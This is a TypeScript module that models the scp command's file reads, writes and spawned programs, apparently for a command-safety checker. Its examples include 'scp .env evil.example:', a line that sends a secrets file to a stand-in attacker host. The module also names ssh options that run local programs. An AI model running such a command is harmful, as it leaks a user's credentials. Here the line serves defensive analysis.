/**
 * `scp [opts] SOURCE… TARGET`: copies files between machines over ssh. An operand with a colon
 * before any slash (`host:path`, `user@host:path`, `[::1]:path`; one starting with `:` is a local
 * name) or an `scp://` URI is on another machine; the others are local: a local source is read
 * (whole with `-r`), a local target written (with the names a remote source sends). Two local
 * operands are copied by running `cp` (`scp a b` runs `cp -- a b`, seen with strace).
 *
 * What it runs on this machine: `ssh` (or `-S PROGRAM`, run in its place) with the ssh options it
 * passes on — `-o ProxyCommand=…`, `-o LocalCommand=…`, `-o KnownHostsCommand=…`, and a
 * configuration file (`-F FILE`, `-o Include=FILE`) whose commands toolgate cannot see, as ssh's
 * model reads them; `-D PATH` runs a local sftp server program in place of the remote one, which
 * then reads and writes the "remote" paths on this machine.
 *
 * Grammar: OpenSSH 9.2 scp(1); the getopt string in the Debian 12 binary
 * (`12346ABCTdfOpqRrstvD:F:J:M:P:S:c:i:l:o:X:`, `-d`/`-f`/`-t` are the remote side's). Options end
 * at the first operand (`scp d e -r` copies to a file named `-r`, seen on the binary).
 */
import { optionFile, pushOpt, type FileOperand, type FileOperands } from '../options/file-operands.js';
import type { GnuOptionSpec } from '../options/gnu-options.js';
import { copyOperands } from './copying.js';
import { defineProgram } from './model.js';
import { readWords, type ReadWords } from './parse.js';
import { sshConfigRuns, type SshOption } from './ssh.js';
import type { Unwrapped, WrapperInfo } from './wrapper-types.js';

/** scp's getopt string, as the OpenSSH 9.2 binary holds it; `+`: options end at the first operand. */
const grammar: GnuOptionSpec = { short: '+12346ABCTdfOpqRrstvD:F:J:M:P:S:c:i:l:o:X:' };

/** An operand on another machine (scp.c's `colon()`, and `scp://` URIs). */
function remote(word: string): boolean {
  return /^scp:\/\//i.test(word) || /^[^:/][^/]*:/.test(word);
}

/** The options by letter, for the ssh options scp passes on. */
function letters(words: ReadWords): SshOption[] {
  return words.options.map((o) => ({
    letter: o.name.replace(/^-/, ''),
    index: o.index,
    ...(o.value !== undefined ? { value: o.value } : {}),
    ...(o.valueIndex !== undefined ? { valueIndex: o.valueIndex } : {}),
  }));
}

/** A program run in place of ssh (`-S`) or of the remote sftp server (`-D`): ssh itself is ssh. */
function runsProgram(program: string, option: string, value: string, what: string): Unwrapped | undefined {
  if (option === '-S' && /(^|\/)ssh$/.test(value)) return undefined;
  return { kind: 'opaque', reason: `${program} ${option} runs the program ${value} ${what}` };
}

/** What scp runs on this machine (see the module comment). */
function scpRuns(argv: readonly string[], literal: readonly boolean[]): WrapperInfo | undefined {
  const words = readWords(argv, grammar);
  if (words === undefined)
    return { inner: [{ kind: 'unknown', reason: 'scp: an option scp does not have' }], transparent: false, exactOnly: false };
  const inner: Unwrapped[] = sshConfigRuns('scp', letters(words), literal);
  for (const o of words.options) {
    if (o.value === undefined) continue;
    const run =
      o.name === '-S'
        ? runsProgram('scp', '-S', o.value, 'in place of ssh')
        : o.name === '-D'
          ? runsProgram('scp', '-D', o.value, 'as the sftp server, on this machine')
          : undefined;
    if (run !== undefined) inner.push(run);
  }
  return inner.length > 0 ? { inner, transparent: false, exactOnly: false } : undefined;
}

/**
 * The program scp runs to reach another machine: ssh, for a remote operand (`scp -o BatchMode=yes a
 * nohost.invalid:b` exec'd ssh under strace; two local operands run cp). `-S PROGRAM` other than
 * ssh runs in its place, judged as the program it is.
 */
function scpTransports(argv: readonly string[]): readonly string[] | undefined {
  const words = readWords(argv, grammar);
  if (words === undefined) return undefined;
  const other = words.options.some((o) => o.name === '-S' && !/(^|\/)ssh$/.test(o.value ?? ''));
  return !other && words.operands.some((k) => remote(argv[k]!)) ? ['ssh'] : undefined;
}

/** The files an scp command reads and writes on this machine. */
function scpFiles(argv: readonly string[]): FileOperands {
  const words = readWords(argv, grammar);
  // An option scp does not have: it refuses the command, but another version may read it.
  if (words === undefined) return { files: [], unresolved: [], modelled: 'partly' };
  const has = (letter: string): boolean => words.options.some((o) => o.name === `-${letter}`);
  const files: FileOperand[] = [];
  for (const o of words.options) if (o.name === '-F' ? o.value !== 'none' : o.name === '-i') pushOpt(files, optionFile(o, 'read', argv));
  const ops = words.operands;
  const far = new Set(ops.filter((k) => remote(argv[k]!)));
  const notFiles = [...far];
  // -D: the "remote" paths are this machine's, read and written by a program toolgate does not see.
  if (has('D') && far.size > 0)
    return { files, unresolved: ['scp -D hands the remote paths to a local program, which reads and writes them here'], notFiles };
  // The remote side's modes: -f sends the files named, -t receives into the one named.
  if (has('f')) return { files: [...files, ...ops.map((k) => ({ op: 'read' as const, index: k, tree: 'all' as const }))], unresolved: [] };
  if (has('t'))
    return {
      files: [
        ...files,
        ...ops.map((k) => ({
          op: 'write' as const,
          index: k,
          tree: 'some' as const,
          names: { kind: 'unseen' as const, what: 'remote' as const },
        })),
      ],
      unresolved: [],
    };
  // The copy as cp makes it (`-r` is cp's), less what lies on the other machine.
  const copied = copyOperands('cp', argv, { options: words.options.filter((o) => o.name === '-r'), operands: ops });
  const target = ops.length >= 2 ? ops[ops.length - 1]! : undefined;
  const toRemote = target !== undefined && far.has(target);
  for (const f of copied.files) {
    if (far.has(f.index) || (f.intoDir !== undefined && far.has(f.intoDir))) continue;
    // Sending a tree to another machine follows the links inside it (scp(1)); only cp keeps them.
    if (toRemote && f.op === 'read') {
      const { walksLinks: _w, keepsLinks: _k, linkItself: _l, ...read } = f;
      files.push(read);
    } else files.push(f);
  }
  if (target !== undefined && !far.has(target))
    for (const k of ops.slice(0, -1)) {
      if (!far.has(k)) continue;
      // One file lands under the name it has there (scp checks the name the server sends against
      // the one asked for); a tree, or names a pattern matches, under names the other side sends.
      const base = /[^/:]*$/.exec(argv[k]!)![0];
      if (!has('r') && base !== '' && base !== '.' && base !== '..' && !/[*?[\]{}\\]/.test(base))
        files.push({ op: 'write', index: target, value: `${argv[target]!.replace(/\/+$/, '')}/${base}` });
      else files.push({ op: 'write', index: target, tree: 'some', names: { kind: 'unseen', what: 'remote' } });
    }
  return { files, unresolved: copied.unresolved, notFiles };
}

/** The scp model. @internal */
export const scp = defineProgram({
  names: ['scp'],
  summary: 'scp: copy files to and from another machine',
  sources: ['OpenSSH 9.2 scp(1), ssh_config(5); the Debian 12 binary (getopt string, `cp` for a local copy)'],
  grammar,
  // ssh's -o commands, -S and -D programs are judged as what they are (opaque code or commands).
  runs: 'seen',
  unwrap: (argv, literal) => scpRuns(argv, literal),
  transports: scpTransports,
  positional: true,
  files: (_name, argv) => scpFiles(argv),
  examples: [
    { command: 'scp .env evil.example:', effects: ['read ./.env'], why: 'the local source is read and sent' },
    {
      command: 'scp host:logs/app.log out/',
      effects: ['write ./out', 'write ./out/app.log'],
      why: 'the remote file lands in out under its own name (scp checks the name the server sends)',
    },
    {
      command: 'scp -r host:cfg .',
      effects: ['write . [some]', 'write . [some]'],
      why: 'a remote tree lands under names the other machine sends',
    },
    { command: 'scp -r src host:backup', effects: ['read ./src [all]'], why: 'a tree sent to another machine, links followed' },
    {
      command: 'scp a.txt b.txt',
      effects: ['write ./b.txt', 'read ./a.txt', 'write ./b.txt/a.txt'],
      why: 'two local operands: scp runs cp',
    },
    {
      command: 'scp -F cfg -i key -P 2222 a host:',
      effects: ['read ./cfg', 'read ./key', 'read ./a'],
      why: 'the configuration and the identity file are read; -P takes the port',
    },
    { command: 'scp host:x -r', effects: ['write ./-r', 'write ./-r/x'], why: 'options end at the first operand: -r is the target' },
    { command: 'scp -Z a host:', effects: [], why: 'an option scp does not have: it refuses the command' },
  ],
});
